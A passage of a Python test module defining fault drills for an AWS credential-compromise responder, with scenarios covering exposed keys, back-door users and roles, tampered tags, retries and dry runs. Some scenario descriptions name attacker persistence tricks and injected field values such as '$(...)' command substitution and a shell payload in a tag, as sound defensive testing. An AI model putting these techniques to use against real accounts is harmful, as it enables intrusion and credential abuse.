            "cannot authenticate, but the sessions minted from it cannot be tied to a user, so the report "
            "says partial and gives the CloudTrail lookup",
            setup=_delete_user,
        ),
        Scenario(
            "instance-terminated",
            "guardduty_exfil_outside_realistic.json",
            "contained",
            "the instance is already gone: sessions are revoked; evidence and isolation are skipped",
            setup=_terminate_instance,
        ),
        Scenario(
            "auto-scaling-group",
            "guardduty_exfil_outside_realistic.json",
            "contained",
            "the instance belongs to an Auto Scaling group: it is detached so the group cannot replace "
            "and terminate it",
            setup=_in_auto_scaling_group,
        ),
        Scenario(
            "several-enis",
            "crafted/guardduty_exfil_three_enis_two_vpcs.json",
            "contained",
            "three ENIs in two VPCs with different groups: every ENI isolated, one group per VPC",
        ),
        Scenario(
            "service-linked-role",
            "crafted/guardduty_exfil_service_linked_role.json",
            "failed",
            "the role is service-linked: IAM forbids the revoke policy, so the report says so and how",
        ),
        Scenario(
            "root-key",
            "crafted/health_root_key_exposed.json",
            "failed",
            "a root user's key (as IAM names it, <root_account>): never acted on; the report gives the manual steps",
        ),
        Scenario(
            "exempted-principal",
            "health_exposed_key_2025_event_metadata.json",
            "failed",
            "the user is exempted by configuration: nothing is changed, the responders are told",
            environment={"EXEMPT_PRINCIPAL_ARNS": "arn:aws:iam::123456789012:user/test-1"},
        ),
        Scenario(
            "duplicate",
            "guardduty_exfil_outside_realistic.json",
            "duplicate",
            "the same finding delivered twice: the second is recorded and changes nothing",
            deliveries=2,
        ),
        Scenario(
            "still-in-use",
            "guardduty_exfil_outside_realistic.json",
            "duplicate",
            "GuardDuty re-sends the finding with a higher count after containment: the credentials are "
            "still in use, so they are cut off again (a new cut-off) and the responders are told",
            deliveries=2,
            redeliver=_count_rises,
            between=_note_first_cutoff,
        ),
        Scenario(
            "record-unavailable",
            "health_exposed_key_classic.json",
            "contained",
            "the incident table refuses the outcome after the e-mail went out: the execution ends failed "
            "so the alarm fires, and the e-mail is not sent twice",
            faults=fail("dynamodb", "UpdateItem", "AccessDeniedException"),
        ),
        Scenario(
            "rerun",
            "guardduty_exfil_outside_realistic.json",
            "contained",
            "the whole response runs again on the same finding (its record gone): the containing call is "
            "made again (written first, read back: a new cut-off); every other step finds its work done "
            "and changes nothing",
            deliveries=2,
            between=_forget_incidents,
        ),
        Scenario(
            "malformed",
            "crafted/guardduty_exfil_malformed_resource.json",
            "ignored",
            "a finding whose resource is not an object: ignored with a reason, no crash",
        ),
        Scenario(
            "dry-run-isolation",
            "guardduty_exfil_outside_realistic.json",
            "contained",
            "isolation alone in dry-run (dryRunActions): sessions revoked and evidence kept, the network "
            "left as it is and reported as what would be done",
            environment={"DRY_RUN_ISOLATE_INSTANCE": "true"},
        ),
        Scenario(
            "dry-run",
            "guardduty_exfil_outside_realistic.json",
            "failed",
            "dry-run: every change is reported as what it would do, nothing changes",
            environment={"DRY_RUN": "true"},
        ),
        # -- incident record (dedupe)
        Scenario(
            "first-task-retried",
            "health_exposed_key_classic.json",
            "contained",
            "the first task's PutItem applies but its reply is lost, so the task runs twice in one "
            "execution: the retry finds its own record, and the key is contained once",
            faults=_reply_lost("dynamodb", "PutItem"),
        ),
        Scenario(
            "stuck-record",
            "guardduty_exfil_outside_realistic.json",
            "contained",
            "the incident record was left responding by an execution that died, longer ago than the "
            "workflow's timeout: the repeat takes the response over and contains",
            setup=_stuck_record,
        ),
        # -- investigation (issue 12 item 6, issue 14 items 1-3)
        Scenario(
            "exempt-automation",
            "health_exposed_key_2025_event_metadata.json",
            "failed",
            "the exposed key belongs to an exempted automation user whose trail shows it creating a key for "
            "another user: nothing is changed, the created key stays Active, the exemption is named",
            setup=_exempt_automation_trail,
            environment={"EXEMPT_PRINCIPAL_ARNS": "arn:aws:iam::123456789012:user/test-1"},
        ),
        Scenario(
            "largest-state",
            "health_exposed_key_2025_event_metadata.json",
            "partial",
            "the biggest deliverable event (255 KB) with the biggest investigation (thousands of persistence "
            "calls, a hundred back-door keys): every state stays under 256 KiB and a report is sent; the "
            "look-up reads every event (its cap raised), so the summary holds every persistence call; the "
            "hundreds of back-door users are more than the reach holds (its bound, named), so the outcome is partial",
            setup=_largest_state,
            environment={"LOOKUP_MAX_EVENTS_PER_REGION": "10000"},
        ),
        Scenario(
            "quarantine-impostor",
            "health_exposed_key_2025_event_metadata.json",
            "contained",
            "the trail shows policies named like AWS's quarantine (an inline Allow *:* on a back-door user, a "
            "customer policy AWSCompromisedKeyQuarantineV9 on a role): reported as persistence; AWS's real "
            "attach to the exposed user is not",
            setup=_impostor_trail,
        ),
        Scenario(
            "evict-largest-state",
            CI_KEY_EVENT,
            "contained",
            f"{LARGEST_ROLES} roles the attacker made carry the largest documents IAM allows ({TRUST_LIMIT}-character "
            f"trust, {ROLE_INLINE_LIMIT}-character inline policy, quote-heavy): each is held, no document travels "
            "in the state (they are in the evidence bucket), the report is sent",
            setup=_largest_eviction,
        ),
        Scenario(
            "busy-account",
            CI_KEY_EVENT,
            "contained",
            f"{BUSY_EVENTS} calls of other principals fall in the look-up window: the look-ups are filtered at the "
            "source and read none of them; the key and the back door are contained and the outcome does not fail "
            "on the budget",
            setup=_busy_account,
        ),
        Scenario(
            "noisy-trail",
            "health_exposed_key_2025_event_metadata.json",
            "contained",
            f"{NOISE_CALLS} calls after a back-door key push it out of the key's look-up: the look-up of the "
            "calls that derive a credential, by name, over the part the key's look-up did not read, finds it and it "
            "is deactivated; the investigation says it was capped and how the rest was read",
            setup=_noisy_trail,
        ),
        Scenario(
            "workload-key",
            "guardduty_exfil_outside_realistic.json",
            "contained",
            "the instance's own process created a key with the instance session (from the instance's own "
            "address): a credential made from the instance after the theft is unknown, held on doubt with its "
            "release command; the key the thief created from the finding's remote address is deactivated",
            setup=_workload_key_trail,
        ),
        # -- exposed key (contain_key)
        Scenario(
            "org-view-member-key",
            "crafted/health_org_view_member_key.json",
            "failed",
            "Health's organizational view delivers a member account's key (210987654321) to this account: "
            "nothing is changed here; the report names the member account and the commands to run there",
        ),
        Scenario(
            "wrong-owner",
            "health_exposed_key_2025_event_metadata.json",
            "contained",
            "the event names a user who does not own the key: IAM names the real owner, whose key is "
            "deactivated; the named user is left alone",
            setup=_key_of_another_user,
        ),
        Scenario(
            "user-sessions",
            "health_exposed_key_2025_event_metadata.json",
            "contained",
            "a session minted from the key (GetSessionToken) before containment: the user carries a deny of "
            "every session issued before the cut-off",
            setup=_session_minted_from_the_key,
        ),
        Scenario(
            "health-pages",
            "health_exposed_key_2025_event_metadata.json",
            "contained",
            "a Health event in two pages (same communicationId), one key on each: each page is its own "
            "incident and both keys are deactivated",
            setup=_PAGES.setup,
            deliveries=2,
            redeliver=_PAGES.redeliver,
        ),
        Scenario(
            "forged-names",
            "crafted/health_forged_names.json",
            "ignored",
            "the event's user name carries Slack markup, a newline and $(...): ignored naming the field, "
            "before any action; nothing of it reaches a message unescaped",
        ),
        # -- evict (issue 18)
        Scenario(
            "backdoor-eviction",
            "health_exposed_key_classic.json",
            "contained",
            "the bundled back-door trail: the users, roles, console passwords, trust policy and admin policies the "
            "attacker left are each evicted (or reported, as the attacker-or-owner rule decides)",
            setup=_backdoor_trail,
        ),
        Scenario(
            "owner-activity",
            "health_exposed_key_classic.json",
            "contained",
            "the key's owner created a role and a key before the exposure, from its usual address: both are left "
            "untouched and reported as the owner's",
            setup=_owner_activity,
        ),
        # -- instance: load balancers, instance profile, isolation under attack
        Scenario(
            "load-balancer",
            "guardduty_exfil_outside_realistic.json",
            "contained",
            "the instance is behind an ALB target group and a Classic Load Balancer: deregistered from both "
            "(recorded for release), so the attacker's requests no longer reach it",
            setup=_behind_load_balancers,
        ),
        Scenario(
            "instance-profile",
            "guardduty_exfil_outside_realistic.json",
            "contained",
            "the instance profile association is removed (the profile recorded for release): the metadata "
            "service hands out no new role credentials",
        ),
        Scenario(
            "untrack-timeout",
            "crafted/guardduty_exfil_three_enis_two_vpcs.json",
            "contained",
            "an earlier attempt died between the two swaps (an interface left on the open all-open group), and "
            "this one times out once on a second swap: after the retry no interface is on the all-open group "
            "and it has no rules",
            setup=_left_on_the_all_open_group,
            faults=_timeout_on_second_swap,
        ),
        # -- repeats (issue 25)
        Scenario(
            "sequence-new-principal",
            "crafted/guardduty_attack_sequence_iam_user_key.json",
            "contained",
            "an IAM attack sequence is contained, then GuardDuty's update under the same finding id names a second "
            "user's key: the new key is contained (the first stays as the first response left it), and one "
            "message says what is new",
            setup=_NEW_KEY.setup,
            deliveries=2,
            redeliver=_NEW_KEY.redeliver,
        ),
        Scenario(
            "joined-update",
            "guardduty_exfil_outside_realistic.json",
            "contained",
            "an instance-credential finding is contained, an attack sequence joins its incident, and the "
            "sequence's update adds a key the attacker made: that key is contained on the same record and the "
            "responders are told",
            setup=_JOINED_UPDATE.setup,
            deliveries=3,
            redeliver=_JOINED_UPDATE.redeliver,
        ),
        Scenario(
            "release-joined",
            "guardduty_exfil_outside_realistic.json",
            "contained",
            "an instance-credential finding is contained and an attack sequence joins it (a key contained); "
            "`release` with the id the joined report prints restores what every response of the incident "
            "changed, and the record is marked released",
            setup=_JOINED.setup,
            deliveries=2,
            redeliver=_JOINED.redeliver,
            after=_release_by_the_joined_id,
        ),
        Scenario(
            "tag-tampered",
            "guardduty_exfil_outside_realistic.json",
            "contained",
            "the attacker rewrote the original-groups tag (a shell payload, another ENI) even with this "
            "incident's id: the live groups are recorded, the report's commands are quoted, release restores "
            "the recorded groups on the instance's own interfaces only",
            setup=_tampered_tag,
        ),
        # -- account histories (issue 22): the owner's work before the exposure, the attacker's after, and
        # every chain of credentials; staged from the scenario files in tests/events/cloudtrail/ (docs/drill.md)
        Scenario(
            "owner-history",
            CI_KEY_EVENT,
            "contained",
            "the key's owner created roles, an engineer with a console password and a release bot with a key from "
            "its CI in the week before the exposure; after it, only a scanner's probes: the key is contained and "
            "nothing of the owner's is touched, each item reported as the owner's",
            cloudtrail="owner_history.json",
        ),
        Scenario(
            "role-chain",
            CI_KEY_EVENT,
            "contained",
            "the key assumed the deploy role, chained into the admin role, and through that session created a user "
            "with an administrator policy and a key: every session and the new key are cut off",
            cloudtrail="role_chain.json",
        ),
        Scenario(
            "reactivated-key",
            CI_KEY_EVENT,
            "contained",
            "the attacker set the user's old Inactive key Active again and used it: it is Inactive again",
            cloudtrail="reactivated_key.json",
        ),
        Scenario(
            "renamed-backdoor",
            CI_KEY_EVENT,
            "contained",
            "the attacker created an admin user with a key and a password, then renamed it: followed by its id, "
            "its key is Inactive",
            cloudtrail="renamed_backdoor.json",
        ),
        Scenario(
            "second-key",
            "crafted/guardduty_attack_sequence_iam_user_two_keys.json",
            "contained",
            "one attack sequence names two keys of one user, both used: both are Inactive, and the user they made "
            "is contained",
            cloudtrail="second_key.json",
        ),
        # -- whose work (issue 23)
        Scenario(
            "owner-ci-runner",
            CI_KEY_EVENT,
            "partial",
            "the owner's CI goes on creating roles and users after the exposure (a new address each job, CLI v2 "
            "agents naming the command): with unknownChanges=report they are left and named, the outcome partial "
            "(or they are judged the owner's on the evidence); never a deleted password",
            cloudtrail="owner_ci_runner.json",
            environment={"UNKNOWN_CHANGES": "report"},
        ),
        Scenario(
            "instance-workload",
            "guardduty_exfil_outside_realistic.json",
            "contained",
            "after the finding's first activity the instance's workload creates its release role from the instance's "
            "address while the thief, from the finding's address, makes a user, a key and an outside-trusting role: "
            "the thief's are contained, the workload's role is not judged the attacker's",
            cloudtrail="instance_workload.json",
        ),
        Scenario(
            "pre-detection-attacker",
            CI_KEY_EVENT,
            "contained",
            "the attacker's calls start 2 minutes before the Health event, from an address and a client the key never "
            "used, after the owner's CI baseline days earlier: judged the attacker's and contained",
            cloudtrail="pre_detection_attacker.json",
        ),
        # -- never harm the owner, never undo ourselves (issue 24)
        Scenario(
            "planted-policy-names",
            CI_KEY_EVENT,
            "contained",
            "the attacker put Allow policies named like the responder's deny-all, cut-off and quarantine fallback on "
            "the principals it made and on the key's user: each principal is contained, read back by content",
            cloudtrail="planted_policy_names.json",
        ),
        Scenario(
            "exempt-role-trust",
            CI_KEY_EVENT,
            "partial",
            "the key rewrote the trust of the exempted break-glass role: the role is not touched and is reported",
            account="break_glass.json",
            environment={"EXEMPT_PRINCIPAL_ARNS": "arn:aws:iam::123456789012:role/break-glass"},
        ),
        Scenario(
            "noop-trust-rewrite",
            CI_KEY_EVENT,
            "contained",
            "the key called UpdateAssumeRolePolicy with the role's own document: reported, not acted on",
            cloudtrail="noop_trust_rewrite.json",
        ),
    )
}


def release_the_incident(account: SimulatedAccount, staged: Staged) -> dict[str, Any]:
    """`responder release` of the one incident the drill's account recorded."""
    (item,) = account.client("dynamodb").scan(TableName=os.environ["INCIDENT_TABLE"])["Items"]
    return release_as_the_cli_does(account, staged, item["incident_id"]["S"])


# Fault drills declared as data, one file each (docs/drill.md): the name is the file's, and what it may hold is
# what a Scenario takes that is data. A response action's drill is its own file, not a change here.
DRILLS = EVENTS / "drills"
AFTER = {"release": release_the_incident}


class DrillFileError(ValueError):
    """A drill file that cannot be run: the message names the file and the field."""


def load_drill_file(path: Path) -> Scenario:
    data = json.loads(path.read_text())
    fields = {"event", "expected", "what", "cloudtrail", "account", "environment", "after"}
    if not isinstance(data, dict) or set(data) - fields or not {"event", "expected", "what"} <= set(data):
        raise DrillFileError(f"{path}: a drill file holds event, expected and what, and may hold {sorted(fields)}")
    for field_name, folder in (
        ("event", EVENTS),
        ("cloudtrail", EVENTS / "cloudtrail"),
        ("account", EVENTS / "accounts"),
    ):
        if field_name in data and not (folder / str(data[field_name])).is_file():
            raise DrillFileError(f"{path}: {field_name} {data[field_name]!r} is not a file in {folder}")
    if data.get("after", "release") not in AFTER:
        raise DrillFileError(f"{path}: after must be one of {sorted(AFTER)}")
    environment = data.get("environment") or {}
    if not all(isinstance(k, str) and isinstance(v, str) for k, v in environment.items()):
        raise DrillFileError(f"{path}: environment maps names to strings")
    return Scenario(
        path.stem,
        str(data["event"]),
        str(data["expected"]),
        str(data["what"]),
        environment=environment,
        cloudtrail=data.get("cloudtrail"),
        account=data.get("account"),
        after=AFTER[data["after"]] if "after" in data else None,
    )


def _declared_drills() -> dict[str, Scenario]:
    found = {path.stem: load_drill_file(path) for path in sorted(DRILLS.glob("*.json"))}
    clash = set(found) & set(SCENARIOS)
    if clash:
        raise DrillFileError(f"drill files named like a fault drill of drill/faults.py: {sorted(clash)}")
    return found


SCENARIOS.update(_declared_drills())


def run_scenario(
    name: str,
    synthesized: Any,
    *,
    time_scale: float = 0.001,
    environment: dict[str, str] | None = None,
    **drill: Any,
) -> dict[str, Any]:
    """Run one fault drill; `environment` is laid over the drill's own (e.g. UNKNOWN_CHANGES=hold)."""
    from drill.runner import run_event_file

    scenario = SCENARIOS[name]
    drill.setdefault("after", scenario.after)
    result = run_event_file(
        scenario.path,
        synthesized,
        time_scale=time_scale,
        setup=scenario.setup,
        faults=scenario.faults(),
        environment={**scenario.environment, **(environment or {})},
        deliveries=scenario.deliveries,
        redeliver=scenario.redeliver,
        between=scenario.between,
        cloudtrail=EVENTS / "cloudtrail" / scenario.cloudtrail if scenario.cloudtrail else None,
        account_state=EVENTS / "accounts" / scenario.account if scenario.account else None,
        **drill,
    )
    result["fault"] = {"scenario": name, "what": scenario.what, "expected": scenario.expected}
    return result
